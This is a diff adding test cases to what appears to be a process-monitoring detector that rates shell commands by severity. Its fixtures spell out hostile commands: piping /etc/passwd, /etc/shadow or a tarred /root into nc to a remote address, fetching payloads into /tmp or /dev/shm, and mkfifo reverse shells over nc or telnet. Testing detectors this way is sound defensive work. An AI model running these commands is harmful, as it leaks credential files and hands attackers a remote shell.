@@ -479,7 +479,42 @@ describe("evaluate: severity and reasons", () => {
         "high",
         "nc sends a file (< /etc/passwd)",
       ],
+      [
+        "a file piped into nc",
+        session("sh", "-c", "cat /etc/passwd | nc 203.0.113.9 4444"),
+        "high",
+        "nc sends a file (cat /etc/passwd | nc)",
+      ],
+      [
+        "an archive piped through base64 into nc",
+        session("sh", "-c", "tar czf - /root | base64 -w0 | nc 203.0.113.9 4444"),
+        "high",
+        "nc sends a file (tar czf - /root | nc)",
+      ],
+      [
+        "parent: a file piped into this very nc",
+        withAncestors(run("/bin/nc", "203.0.113.9", "4444"), [
+          { path: "/bin/sh", args: ["-c", "cat /etc/shadow | nc 203.0.113.9 4444"] },
+        ]),
+        "high",
+        "nc sends a file (cat /etc/shadow | nc)",
+      ],
+      [
+        "parent: nc fed a file",
+        withAncestors(run("/bin/nc", "203.0.113.9", "4444"), [
+          { path: "/bin/sh", args: ["-c", "nc 203.0.113.9 4444 < /etc/shadow"] },
+        ]),
+        "high",
+        "nc sends a file (< /etc/shadow)",
+      ],
     ]);
+
+    it.each([
+      ["text typed for the service", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc example.com 80"],
+      ["a script's output", "sh /app/report.sh | nc 10.0.0.5 9000"],
+    ])("does not count %s piped into nc as a file", (_label, script) => {
+      expect(findingOf(session("sh", "-c", script)).severity).toBe("low");
+    });
   });
 
   describe("high: downloads into writable places", () => {
@@ -586,7 +621,54 @@ describe("evaluate: severity and reasons", () => {
         "high",
         "wget downloads into a writable location (/tmp): /tmp/b",
       ],
+      [
+        "unpacked by tar -C",
+        session("sh", "-c", "curl -sL http://x/a.tgz | tar xz -C /dev/shm"),
+        "high",
+        "curl downloads into a writable location (/dev/shm): /dev/shm (| tar xz -C /dev/shm)",
+      ],
+      [
+        "unpacked by tar after cd",
+        session("sh", "-c", "cd /tmp && wget -qO- http://x/a.tgz | tar -xzf -"),
+        "high",
+        "wget downloads into a writable location (/tmp): /tmp (| tar -xzf -)",
+      ],
+      [
+        "decoded into a file down the pipeline",
+        session("sh", "-c", "curl -s http://x/a | base64 -d > /tmp/a"),
+        "high",
+        "curl downloads into a writable location (/tmp): /tmp/a",
+      ],
+      [
+        "written by dd down the pipeline",
+        session("sh", "-c", "curl -s http://x/a | dd of=/var/tmp/a"),
+        "high",
+        "curl downloads into a writable location (/var/tmp): /var/tmp/a",
+      ],
+      [
+        "parent: a redirection of this very curl",
+        withAncestors(run("/usr/bin/curl", "-s", "http://x/a"), [
+          { path: "/bin/sh", args: ["-c", "curl -s http://x/a > /tmp/a"] },
+        ]),
+        "high",
+        "curl downloads into a writable location (/tmp): /tmp/a",
+      ],
     ]);
+
+    it.each([
+      ["tar into an image directory", "curl -sL http://x/a.tgz | tar xz -C /opt"],
+      ["a filter into an image directory", "curl -s http://x/a | jq . > /app/out.json"],
+      ["tar listing an archive", "curl -sL http://x/a.tgz | tar tz"],
+    ])("does not count %s", (_label, script) => {
+      expect(findingOf(session("sh", "-c", script)).severity).toBe("low");
+    });
+
+    it("does not take a sibling's redirection for the process's own", () => {
+      const event = withAncestors(run("/usr/bin/curl", "-s", "http://x/b"), [
+        { path: "/bin/sh", args: ["-c", "curl -s http://x/a > /tmp/a; curl -s http://x/b"] },
+      ]);
+      expect(findingOf(event).severity).toBe("low");
+    });
   });
 
   describe("critical: the utility executes a command or shell", () => {
@@ -688,6 +770,42 @@ describe("evaluate: severity and reasons", () => {
         "rsync executes a command or shell (-e sh -c 'sh 0<&2 1>&2')",
       ],
     ]);
+
+    it.each([
+      [
+        "a session",
+        session(
+          "sh",
+          "-c",
+          "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
+        ),
+      ],
+      [
+        "the parent (Tetragon, Falco, Datadog)",
+        withAncestors(run("/bin/nc", "203.0.113.9", "4444"), [
+          {
+            path: "/bin/sh",
+            args: [
+              "-c",
+              "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
+            ],
+          },
+        ]),
+      ],
+      [
+        "a shell reading a fifo",
+        session("bash", "-c", "/bin/sh -i < /tmp/s 2>&1 | nc 203.0.113.9 4444 > /tmp/s"),
+      ],
+      ["telnet", session("sh", "-c", "bash -i 2>&1 | telnet 203.0.113.9 4444")],
+    ])("counts a shell session relayed by the utility in %s (mkfifo reverse shell)", (_label, event) => {
+      // Act
+      const finding = findingOf(event);
+      // Assess
+      expect(finding.severity).toBe("critical");
+      expect(finding.reasons[0]).toMatch(
+        /^(?:nc|telnet) relays an interactive shell \((?:\/bin\/sh|bash) -i \| (?:nc|telnet)\)$/,
+      );
+    });
 
     it("does not count rsync -e ssh", () => {
       expect(findingOf(run("/usr/bin/rsync", "-e", "ssh -p 2222", "/a", "h:/b")).severity).toBe("high");
